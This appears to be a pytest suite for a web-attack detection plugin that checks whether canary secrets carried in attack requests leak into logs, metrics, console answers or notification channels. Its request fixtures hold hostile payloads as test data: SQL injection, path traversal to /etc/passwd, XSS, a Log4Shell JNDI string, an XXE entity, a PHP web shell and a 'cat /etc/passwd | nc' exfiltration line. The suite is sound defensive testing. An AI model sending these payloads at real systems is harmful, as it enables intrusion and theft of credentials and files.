"""Does anything of a request leave that must not? Secrets in every part of it, and a search in all that leaves."""

import base64
import copy
import html
import itertools
import json
import re
import secrets
import string
import time
import urllib.parse

import pytest

from lab import bootstrap, client
from lab.bootstrap import SECRETS, Bootstrap
from lab.client import Client, fresh_user
from lab.receiver import Receiver, channel_of
from lab.scene import Scene
from lab.wire import Answer

FORM, XML = "application/x-www-form-urlencoded", "application/xml"
CHANNELS = ("webhook", "slack", "pagerduty", "sendgrid", "resend")
CHANNELS += ("postmark", "cloudevents", "sqreen", "teams", "alertmanager")
KEY, TOKEN = "the-key-of-all-hashes-of-the-laboratory", "a-token-for-the-laboratory-only"
ALL_SECRETS = SECRETS | {"USER_RISK_KEY": KEY, "USER_RISK_ADMIN_TOKEN": TOKEN}


def canary() -> str:
    """A text that stands nowhere else, and that is no name: with a digit and a sign in it."""
    return f"Cn{secrets.token_hex(5)}~9"


def short_name() -> str:
    """One that is a plain name, as developers give them."""
    return "cn" + "".join(secrets.choice(string.ascii_lowercase) for _ in range(14))


def quoted(text: str) -> str:
    return urllib.parse.quote(text, safe="")


def sqli(secret: str) -> str:
    return f"1' UNION SELECT {secret}, password FROM users WHERE name='{secret}'--"


def script(secret: str) -> str:
    return f"<script>fetch('//{secret}.example')</script>"


def with_body(path: str, kind: str, body: str, **more) -> dict:
    return {"path": path, "method": "POST", "body": body.encode(), "headers": [("content-type", kind)]} | more


def header(name: str, value: str) -> dict:
    return {"path": "/page", "headers": [(name, value)]}


def part(disposition: str, content: str) -> dict:
    body = f"--b\r\ncontent-disposition: form-data; {disposition}\r\n\r\n{content}\r\n--b--\r\n"
    return with_body("/upload", "multipart/form-data; boundary=b", body)


def token(claims: dict) -> str:
    pieces = (base64.urlsafe_b64encode(json.dumps(one).encode()).rstrip(b"=") for one in ({"alg": "none"}, claims))
    return b".".join([*pieces, b"c2ln"]).decode()


#: What carries a secret, beside an attack at the same place or in it.
PLACES = {
    "path": lambda s: {"path": f"/files/{quoted(s)}/..%2f..%2f..%2fetc/passwd"},
    "path, the attack": lambda s: {"path": "/" + quoted(script(s))},
    "query value": lambda s: {"path": f"/search?q={quoted(sqli(s))}"},
    "query value, coded twice": lambda s: {"path": f"/search?q={quoted(quoted(sqli(s)))}"},
    "query name": lambda s: {"path": f"/search?{quoted(s + script(s))}=1"},
    "query name beside": lambda s: {"path": f"/search?{quoted(s)}={quoted(sqli('x'))}"},
    "query name that matches": lambda s: {"path": f"/search?class.module.classLoader.{quoted(s)}=1"},
    "cookie value": lambda s: header("cookie", f"theme={quoted(sqli(s))}"),
    "cookie name": lambda s: header("cookie", f"{s}[x]={quoted(sqli('x'))}"),
    "header value": lambda s: header("x-search", sqli(s)),
    "user agent": lambda s: header("user-agent", f"sqlmap/1.7 ({s})"),
    "referer": lambda s: header("referer", f"https://{s}.example/?q={quoted(sqli(s))}"),
    "forwarded for": lambda s: header("x-forwarded-for", "$" + "{jndi:ldap://" + s + "/a}"),
    "bearer": lambda s: header("authorization", "Bearer " + token({"sub": sqli(s), s: script(s)})),
    "basic": lambda s: header(
        "authorization", "Basic " + base64.b64encode(f"{sqli(s)}:{s}".encode()).decode()
    ) | {"path": f"/?q={quoted(sqli('y'))}"},
    "event header": lambda s: header("x-user-risk-event", f"x;user=\"{s}\""),
    "form value": lambda s: with_body("/f", FORM, f"q={quoted(sqli(s))}"),
    "form name": lambda s: with_body("/f", FORM, f"{quoted(s + script(s))}=1"),
    "json value": lambda s: with_body("/j", "application/json", json.dumps({"a": {"b": [sqli(s)]}})),
    "json key": lambda s: with_body("/j", "application/json", json.dumps({f"{s} {script(s)}": 1, s: sqli("z")})),
    "multipart name": lambda s: part(f'name="{s}<script>alert(1)</script>"', "x"),
    "multipart filename": lambda s: part(f'name="f"; filename="../../{s}/shell.php"', "<?php system($_GET['c']);"),
    "multipart content": lambda s: part('name="f"; filename="a.txt"', sqli(s)),
    "xml": lambda s: with_body("/x", XML, f'<a b="{html.escape(sqli(s))}"><c>{html.escape(script(s))}</c></a>'),
    "xml entity": lambda s: with_body("/x", XML, f'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/{s}">]><a>&e;</a>'),
    "graphql": lambda s: with_body(
        "/graphql",
        "application/json",
        json.dumps({"query": "{a(b: " + json.dumps(sqli(s)) + ")}", "variables": {s: sqli(s)}}),
    ),
    "text": lambda s: with_body("/t", "text/plain", f"; cat /etc/passwd | nc {s} 4444"),
    "login": lambda s: with_body("/login", FORM, f"username={quoted(s)}&password={quoted(s)}"),
}

#: Parts of a request from which a plain name leaves, as the documentation says, and where it may appear.
SHOWN = {
    "query name": (lambda n: {"path": f"/search?{n}={quoted(sqli('x'))}"}, {"log", "console"}),
    "cookie name": (lambda n: header("cookie", f"{n}={quoted(sqli('x'))}"), {"log", "console"}),
    "header name": (lambda n: header(n, sqli("x")), {"log", "console"}),
    "json key": (lambda n: with_body("/j", "application/json", json.dumps({n: sqli("x")})), {"log", "console"}),
    "host": (lambda n: header("host", f"{n}.example") | {"path": f"/?q={quoted(sqli('x'))}"}, {"log"}),
    "path": (lambda n: {"path": f"/{n}/x?q={quoted(sqli('x'))}"}, {"log", "console", "detected", *CHANNELS}),
}


class Echo(Receiver):
    """Refuses the first message, and says back all that was in it, as many servers do."""

    def answer(self, request):
        if len(self.requests) > 1:
            return super().answer(request)
        headers = "".join(f"{name}: {value}; " for name, value in request.headers)
        return Answer(503, f"{request.path} {headers}".encode() + request.body)


@pytest.fixture(scope="module")
def said():
    """All that was said while users attacked with secrets: ({canary: place}, {name: place}, {sink: [texts]}, users)."""
    example = Bootstrap()
    example.settings.update(
        key_env="USER_RISK_KEY",
        admin={"token_env": "USER_RISK_ADMIN_TOKEN"},
        login=[{"route": "/login", "user_field": "username", "failure": {"status": [200]}}],
        risk={"threshold": 10, "repeat_interval": "1s"},
        links={"log": "https://logs.example.com/?q={request_id}", "user": "https://shop.example.com/users/{user}"},
        service={"name": "shop", "environment": "lab", "runbook_url": "https://wiki.example.com/risk"},
        notify=[{"rate": "off"} | getattr(bootstrap, name.upper()) for name in CHANNELS]
        # The messages about each request, not those about incidents.
        + [{"states": ["detected"]} | bootstrap.channel(bootstrap.WEBHOOK, url="https://hooks.example.com/every")],
    )
    example.plugin["vm_config"]["environment_variables"]["host_env_keys"] += ["USER_RISK_KEY", "USER_RISK_ADMIN_TOKEN"]
    listeners = example.tree["static_resources"]["listeners"]
    ops = copy.deepcopy(listeners[0])
    listeners.append(ops | {"name": "ops", "metadata": {"filter_metadata": {"user-risk": {"admin": True}}}})
    canaries = {canary(): place for place in PLACES}
    names = {short_name(): place for place in SHOWN}
    requests = [PLACES[place](secret) for secret, place in canaries.items()]
    with Scene(example, channels=CHANNELS, secrets=ALL_SECRETS) as scene:
        scene.client = Client(scene.envoy.port_of("edge"))
        # The newest place of a rule is kept, so each of those that may leave has a user of its own.
        leaving = [[SHOWN[place][0](name)] for name, place in names.items()]
        users = [attack(scene, some) for some in [*batches(requests, 6), *leaving]]
        scene.settle()
        console = Client(scene.envoy.port_of("ops"))
        ask = lambda path: console.send(f"/.user-risk{path}", headers=[("authorization", f"Bearer {TOKEN}")])
        answers = [ask("/incidents"), *(ask(f"/user?user={user}") for user in [*users, "127.0.0.1"])]
        assert {answer.status for answer in answers[:-1]} == {200}
        sinks = {channel: [] for channel in (*CHANNELS, "detected")}
        for request in scene.receiver.requests:
            lines = [f"{name}: {value}" for name, value in request.headers]
            sinks[channel_of(request)].append("\n".join([request.path, *lines, request.body.decode()]))
        sinks["log"] = list(scene.envoy.lines)
        sinks["metrics"] = [scene.envoy.admin("/stats"), scene.envoy.admin("/stats/prometheus")]
        sinks["console"] = [answer.body.decode() for answer in answers]
        yield canaries, names, sinks, users


def batches(requests: list, size: int):
    rest = iter(requests)
    return list(iter(lambda: list(itertools.islice(rest, size)), []))


def attack(scene, requests: list[dict]) -> str:
    """One user sends these, and every channel is notified with all of them; returns the user's name."""
    user = fresh_user("canary")
    for request in requests:
        for _ in range(6 if request["path"] == "/login" else 1):
            assert scene.client.send(user=user, **request).status < 500
        time.sleep(0.25)
    time.sleep(1.1)  # As long as `repeat_interval`: what comes now is sent, with everything before.
    for _ in range(2):
        scene.attack(client.TEST, user)
    return user


def spellings(text: str, depth: int = 3) -> set[str]:
    """The text, and whatever it may be the code of: percent, HTML, JSON, Base64, hexadecimal."""
    found, fresh = {text}, {text}
    for _ in range(depth):
        fresh = {decoded for one in fresh for decoded in once(one)} - found
        found |= fresh
    return found


def once(text: str) -> list[str]:
    decoded = [urllib.parse.unquote_plus(text), html.unescape(text)]
    decoded.append(re.sub(r"\\u([0-9a-fA-F]{4})", lambda code: chr(int(code[1], 16)), text).replace("\\", ""))
    words = re.findall(r"[A-Za-z0-9+/_-]{12,}", text)
    packed = [unpacked(word[shift:]) for word in words for shift in range(4)]
    packed += [bytes.fromhex(word) for word in words if re.fullmatch(r"(?:[0-9a-fA-F]{2})+", word)]
    decoded.append(" ".join(one.decode("latin-1") for one in packed))
    return decoded


def unpacked(word: str) -> bytes:
    """What the Base64 spells, of either alphabet; the last character goes if it spells nothing."""
    plain = word.translate(str.maketrans("-_", "+/"))
    plain = plain[: len(plain) - (len(plain) % 4 == 1)]
    return base64.b64decode(plain + "=" * (-len(plain) % 4))


def sinks_of(secret: str, sinks: dict) -> set[str]:
    """Where the secret is said, in whatever code."""
    needle = secret.lower()
    return {sink for sink, texts in sinks.items() if any(needle in spelled for text in texts for spelled in text)}


@pytest.fixture(scope="module")
def spelled(said):
    return {sink: [[one.lower() for one in spellings(text)] for text in texts] for sink, texts in said[2].items()}


@pytest.mark.parametrize(
    "code",
    [
        str,
        quoted,
        lambda s: quoted(quoted(s)),
        lambda s: base64.b64encode(f"a{s}".encode()).decode(),
        lambda s: base64.urlsafe_b64encode(f"{{'x': '{s}'}}".encode()).decode().rstrip("="),
        lambda s: f"x{base64.b64encode(quoted(s).encode()).decode()}",
        lambda s: "".join(f"&#{ord(c)};" for c in s),
        lambda s: "".join(f"\\u{ord(c):04x}" for c in s),
        lambda s: s.encode().hex(),
        str.upper,
    ],
)
def test_the_search_finds_what_is_there(code):
    secret = canary()
    texts = [[one.lower() for one in spellings(f'{{"body": "{code(secret)}"}}')]]
    assert sinks_of(secret, {"here": texts}) == {"here"}


def test_every_place_was_an_attack_that_was_seen(said):
    """Else nothing would be proved: each request is a line of the log, each user an incident on every channel."""
    _, _, sinks, users = said
    logged = [line for line in sinks["log"] if '"event":"malicious_request"' in line]
    for user in users:
        assert all(any(user in text for text in sinks[channel]) for channel in CHANNELS)
    assert sum(any(user in line for user in users) for line in logged) >= len(PLACES) + len(SHOWN)
    assert any('"login.failures"' in line for line in logged)


def test_nothing_that_a_request_carries_leaves(said, spelled):
    leaks = {place: sinks for secret, place in said[0].items() if (sinks := sinks_of(secret, spelled))}
    assert leaks == {}


def test_plain_names_appear_where_the_documentation_says_and_nowhere_else(said, spelled):
    found = {place: sinks_of(name, spelled) for name, place in said[1].items()}
    assert found == {place: where for place, (_, where) in SHOWN.items()}
    own = {"host": {"host"}, "path": {"route"}}
    for name, place in said[1].items():
        for line in said[2]["log"]:
            if name in line:
                assert set(fields_with(name, json.loads(line[line.index("{") :]))) == own.get(place, {"target"}), line


def fields_with(text: str, tree, name: str = ""):
    """The names of the members in whose value the text stands."""
    if isinstance(tree, str) and text in tree:
        yield name
    for key, value in tree.items() if isinstance(tree, dict) else enumerate(tree) if isinstance(tree, list) else ():
        yield from fields_with(text, value, key if isinstance(key, str) else name)


def test_no_secret_leaves(said, spelled):
    own = {"SLACK_WEBHOOK_URL": {"slack"}, "PAGERDUTY_ROUTING_KEY": {"pagerduty"}}
    own |= {"MAIL_API_KEY": {"sendgrid", "resend", "postmark"}, "teams": {"teams"}}
    inline = {"teams": bootstrap.TEAMS_URL} | dict(zip(("sqreen", "sqreen, before"), bootstrap.SQREEN_KEYS))
    for variable, secret in (ALL_SECRETS | inline).items():
        path = urllib.parse.urlsplit(secret).path if secret.startswith("https:") else secret.removeprefix("whsec_")
        assert sinks_of(path, spelled) == own.get(variable, set()), variable
    lines = [line for channel in ("sendgrid", "resend") for text in said[2][channel] for line in text.split("\n")]
    assert {line.split(":")[0] for line in lines if SECRETS["MAIL_API_KEY"] in line} == {"authorization"}


@pytest.mark.parametrize("channel", CHANNELS)
def test_a_refusal_that_repeats_everything_is_logged_without_the_secrets(start, user, channel):
    scene = start(notify=[getattr(bootstrap, channel.upper())], receiver=Echo(), channels=[channel])
    scene.cross(user)
    retry = scene.envoy.wait_event("retry")
    assert " answered 503 " in retry["what"], retry
    for secret in (*SECRETS.values(), urllib.parse.urlsplit(SECRETS["SLACK_WEBHOOK_URL"]).path):
        assert not any(secret in line for line in scene.envoy.lines)
    scene.receiver.wait(user, channel, count=2)


def test_a_name_is_in_a_notice_only_as_the_exclusion_to_paste(start):
    scene = start(notify=[bootstrap.WEBHOOK], admin=None)
    name = short_name()
    for _ in range(3):
        user = fresh_user("common")
        scene.attack(f"/search?{name}={quoted(sqli('x'))}", user)
        scene.attack(client.TEST, user)
    (request,) = scene.receiver.wait(user, "webhook")
    body = json.loads(request.body)
    assert body["data"].pop("exclusion") == f"{{rule: sqli.union-select, parameter: {name}}}"
    assert name not in json.dumps(body)
